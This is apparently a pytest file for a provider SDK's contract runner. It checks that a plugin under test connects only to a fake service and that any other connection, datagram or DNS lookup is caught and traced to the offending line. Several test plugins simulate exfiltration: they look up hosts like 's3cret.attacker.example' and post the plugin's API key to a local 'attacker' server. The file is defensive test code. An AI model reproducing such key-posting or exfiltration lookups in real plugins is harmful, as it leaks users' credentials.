"""During a claim no socket goes anywhere but to the fake service, and what tried to is named."""

import socket
import ssl
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path

import pytest
import requests

from providers_sdk.plugin import Chunk, Http, Request
from providers_sdk.testing import RawServer
from providers_sdk.testing.contract import CLAIMS, ContractRunner, Harness, Result
from providers_sdk_plugins.fakes.openai import OpenAISite
from tests.testing.broken_answers import AsksElsewhereInAThread, Sound

_ELSEWHERE = ("127.0.0.1", 9)


def _run(kind: type[Sound], claim: str = "connects_only_to_its_service") -> Result:
    return ContractRunner(Harness(kind, OpenAISite, patience=5.0)).run(CLAIMS[claim])


class Tries(Sound):
    attempt: Callable[[], object] = staticmethod(lambda: None)

    def complete(self, request: Request, http: Http) -> Iterator[Chunk]:
        with suppress(OSError):
            self.attempt()
        yield from super().complete(request, http)


def _send_datagram() -> None:
    with socket.socket(type=socket.SOCK_DGRAM) as sock:
        sock.sendto(b"key", _ELSEWHERE)


def _send_message() -> None:
    with socket.socket(type=socket.SOCK_DGRAM) as sock:
        sock.sendmsg([b"key"], [], 0, _ELSEWHERE)


def _connect_quietly() -> None:
    with socket.socket() as sock:
        sock.connect_ex(_ELSEWHERE)


def _connect_with_tls() -> None:
    with ssl.create_default_context().wrap_socket(socket.socket(), server_hostname="localhost") as sock:
        sock.connect(_ELSEWHERE)


def _connect_to_a_path() -> None:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("/run/acme.sock")


@pytest.mark.parametrize(
    ("attempt", "text"),
    [
        (lambda: socket.create_connection(_ELSEWHERE), "it connected to 127.0.0.1:9"),
        (_connect_quietly, "it connected to 127.0.0.1:9"),
        (_connect_with_tls, "it connected to 127.0.0.1:9"),
        (_connect_to_a_path, "it connected to '/run/acme.sock'"),
        (_send_datagram, "it sent to 127.0.0.1:9"),
        (_send_message, "it sent to 127.0.0.1:9"),
        (lambda: socket.getaddrinfo("attacker.example", 443), "it looked up attacker.example:443"),
        (lambda: socket.getaddrinfo("192.0.2.1", 443), "it looked up 192.0.2.1:443"),
        (lambda: socket.gethostbyname("s3cret.attacker.example"), "it looked up s3cret.attacker.example"),
    ],
)
def test_each_way_to_another_place_is_refused_and_named(attempt: Callable[[], object], text: str) -> None:
    result = _run(type("Tries", (Tries,), {"attempt": staticmethod(attempt), "__module__": __name__}))
    assert result.state == "fails"
    assert result.detail.startswith(f"expected no connection but to the fake service; {text} (")
    assert f"{Path(__file__).name}:" in result.detail


def test_a_key_posted_with_another_library_is_caught_at_the_authors_line_and_arrives_nowhere() -> None:
    with RawServer() as attacker:

        class PostsTheKey(Sound):
            def complete(self, request: Request, http: Http) -> Iterator[Chunk]:
                with suppress(requests.RequestException):
                    requests.post(attacker.url, data=self.settings["key"], timeout=5)
                yield from super().complete(request, http)

        result = _run(PostsTheKey)
        assert attacker.connections == 0
    line = PostsTheKey.complete.__code__.co_firstlineno + 2
    assert f"it connected to 127.0.0.1:{attacker.address[1]} (" in result.detail
    assert f"{Path(__file__).name}:{line}, in complete)" in result.detail


def test_a_thread_that_the_author_started_is_named_by_the_line_that_runs_or_that_started_it() -> None:
    assert "in _look_up)" in _run(AsksElsewhereInAThread).detail

    class StartsAForeignFunction(Sound):
        def complete(self, request: Request, http: Http) -> Iterator[Chunk]:
            with ThreadPoolExecutor(1) as pool:
                pool.submit(socket.create_connection, ("192.0.2.1", 443)).exception()
            yield from super().complete(request, http)

    assert "in complete)" in _run(StartsAForeignFunction).detail


def test_what_is_tried_in_one_claim_only_fails_that_claim() -> None:
    class FallsBack(Sound):
        """A mirror is asked where the service fails."""

        def complete(self, request: Request, http: Http) -> Iterator[Chunk]:
            body = {"model": request.model, "messages": [], "stream": True}
            if http.post("/chat/completions", json=body, headers=self._make_headers()).status >= 500:
                http.get("http://mirror.example/")
            yield from super().complete(request, http)

    result = _run(FallsBack, "reports_a_failed_service")
    assert result.state == "fails"
    assert "it looked up mirror.example" in result.detail
    assert f"{Path(__file__).name}:" in result.detail


def test_other_threads_are_left_alone_and_everything_is_put_back() -> None:
    before = (socket.getaddrinfo, vars(socket.socket).get("connect"), socket.socket.connect_ex, threading.Thread.start)
    reached: list[bool] = []
    ask, asked = threading.Event(), threading.Event()
    with OpenAISite() as other:

        def connect() -> None:
            ask.wait(5)
            with socket.create_connection(other.address, 5):
                reached.append(True)
            asked.set()

        class Waits(Sound):
            def complete(self, request: Request, http: Http) -> Iterator[Chunk]:
                ask.set()
                asked.wait(5)
                yield from super().complete(request, http)

        outside = threading.Thread(target=connect)
        outside.start()
        result = _run(Waits)
        outside.join()
    assert (result.state, reached) == ("holds", [True])
    after = (socket.getaddrinfo, vars(socket.socket).get("connect"), socket.socket.connect_ex, threading.Thread.start)
    assert after == before
